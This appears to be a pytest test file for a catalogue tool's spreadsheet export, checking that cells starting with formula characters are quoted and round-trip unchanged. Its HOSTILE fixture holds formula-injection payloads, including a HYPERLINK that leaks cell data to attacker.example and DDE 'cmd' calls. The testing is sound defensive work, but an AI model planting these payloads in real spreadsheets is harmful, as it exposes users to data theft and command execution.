"""Cells for spreadsheet programs: no text starts a formula, and reading back gives it unchanged."""

from __future__ import annotations

import csv
import io
import json
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from trajectkit.sheets.cells import FORMULA_STARTS, cell_text, neutralised, restored

TRAJECTORY = Path("catalogue/trajectories/OT-00214-afwerking-bouw-duaal.yaml")
QUALIFICATION = Path("catalogue/qualifications/BK-0130-5-stukadoor.yaml")
#: Titles that a spreadsheet program would run, or read as something else than text.
HOSTILE = {
    "Werkt in teamverband": '=HYPERLINK("http://attacker.example/?leak="&A2,"Klik hier")',
    "Verdieping": "=cmd|' /C calc'!A0",
    "Droogbouw": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Binnenbepleistering": "+1+1",
    "Afronding en integrale proef": "-2+3",
    "Wandtegels plaatsen": "#N/A",
    "Algemene vorming": "'=quoted already",
    "Afwerking bouw duaal": "=1+2",
}
LEARNER = Path("catalogue/learners/L-2026-0005.yaml")


@given(st.text())
def test_neutralised_text_never_starts_a_formula_and_comes_back(text: str) -> None:
    cell = neutralised(text)
    assert cell[:1] not in FORMULA_STARTS
    assert restored(cell) == text


@pytest.mark.parametrize("start", sorted(FORMULA_STARTS))
def test_each_formula_start_gets_a_quote(start: str) -> None:
    assert neutralised(f"{start}1+1") == f"'{start}1+1"
    assert cell_text(f"'{start}1+1 ") == f"{start}1+1".strip()


@pytest.fixture
def hostile(tmp_path: Path, samples: Path, cli) -> Path:
    """The samples with formulas for titles and a phase id that starts with '-'."""
    shutil.copytree(samples, tmp_path / "catalogue")
    for path in (tmp_path / TRAJECTORY, tmp_path / QUALIFICATION, tmp_path / LEARNER):
        text = path.read_text(encoding="utf-8")
        for title, formula in HOSTILE.items():
            text = text.replace(f"title: {title}\n", f"title: {json.dumps(formula)}\n")
        if path.name.startswith("OT-"):
            text = text.replace("instap", "-instap")
        text = text.replace("name: Ilias Azzouzi\n", 'name: "@Ilias"\n')
        path.write_text(text, encoding="utf-8")
    assert cli("validate", "catalogue", "--no-cache").exit_code == 0
    return tmp_path / "catalogue"


def test_an_exported_workbook_holds_text_only(cli, hostile: Path, tmp_path: Path) -> None:
    assert cli("export", "catalogue", "-o", "m.xlsx").exit_code == 0
    with zipfile.ZipFile(tmp_path / "m.xlsx") as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in sheet or b't="e"' in sheet for sheet in sheets)
    workbook = openpyxl.load_workbook(tmp_path / "m.xlsx")
    texts = {cell.value for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value}
    for title, formula in HOSTILE.items():
        if title == "Afwerking bouw duaal":
            continue  # the trajectory's title is in the Legend after its id, not at a cell's start
        shown = formula if formula == "#N/A" else f"'{formula}"  # #N/A starts no formula: a text cell suffices
        assert shown in texts, formula
    assert "'-instap" in texts and "-instap" not in texts
    for sheet in workbook:
        for row in sheet.iter_rows():
            assert all(cell.data_type == "s" for cell in row if cell.value is not None)


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_hostile_cells_come_back_unchanged(cli, hostile: Path, tmp_path: Path, suffix: str) -> None:
    """Export, import: the same bytes, with a phase id that an export had to neutralise."""
    original = (tmp_path / TRAJECTORY).read_bytes()
    assert cli("export", "catalogue", "-o", f"m.{suffix}").exit_code == 0
    result = cli("import", f"m.{suffix}", "catalogue", "--out", "new.yaml")
    assert result.exit_code == 0, result.output
    assert (tmp_path / "new.yaml").read_bytes() == original


def test_every_csv_for_a_spreadsheet_is_neutralised(cli, hostile: Path, tmp_path: Path) -> None:
    """The export's CSV and the CSV formats of coverage, stats and match."""
    runs = {
        "export.csv": ("export", "catalogue"),
        "coverage.csv": ("coverage", "catalogue", "--trajectory", "OT-00214", "--format", "csv"),
        "stats.csv": ("stats", "catalogue", "--on", "2026-10-01", "--format", "csv"),
        "match.csv": ("match", "catalogue", "--on", "2026-10-01", "--format", "csv"),
    }
    for name, args in runs.items():
        assert cli(*args, "-o", name).exit_code in (0, 1), name
    cells = []
    for name in runs:
        text = (tmp_path / name).read_text(encoding="utf-8-sig")
        cells += [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert not [cell for cell in cells if cell[:1] in FORMULA_STARTS]
    for expected in (f"'{HOSTILE['Werkt in teamverband']}", "'-instap", "'=1+2", "'@Ilias"):
        assert expected in cells
